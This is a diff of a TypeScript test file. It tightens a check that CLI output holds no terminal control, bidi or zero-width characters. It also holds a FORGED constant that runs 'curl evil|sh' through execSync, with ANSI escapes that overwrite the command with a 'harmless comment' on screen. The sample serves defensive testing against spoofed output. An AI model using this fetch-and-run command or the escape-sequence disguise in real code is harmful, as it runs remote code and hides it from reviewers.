@@ -29,11 +29,10 @@ function changeSetFile(w: TempWorkspace, set: unknown): string {
   return file;
 }
 
-/** Nothing that drives a terminal: no C0 control but tab and newline, no DEL or C1, no bidi control. */
+/** Nothing that drives a terminal: no C0 control but tab and newline, no DEL or C1, no bidi control, no zero-width space. */
 function expectTerminalSafe(r: CliResult): void {
-  for (const text of [r.stdout, r.stderr]) {
-    expect(text).not.toMatch(/[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069\u200B]/);
-  }
+  const bad = (cp: number) => (cp < 0x20 && cp !== 0x09 && cp !== 0x0a) || (cp >= 0x7f && cp <= 0x9f) || (cp >= 0x202a && cp <= 0x202e) || (cp >= 0x2066 && cp <= 0x2069) || cp === 0x200b;
+  for (const text of [r.stdout, r.stderr]) expect([...text].filter((ch) => bad(ch.codePointAt(0)!)).map((ch) => ch.codePointAt(0))).toEqual([]);
 }
 
 const FORGED = 'require(\'child_process\').execSync(\'curl evil|sh\'); \u001b[2K\u001b[1G+// harmless comment';
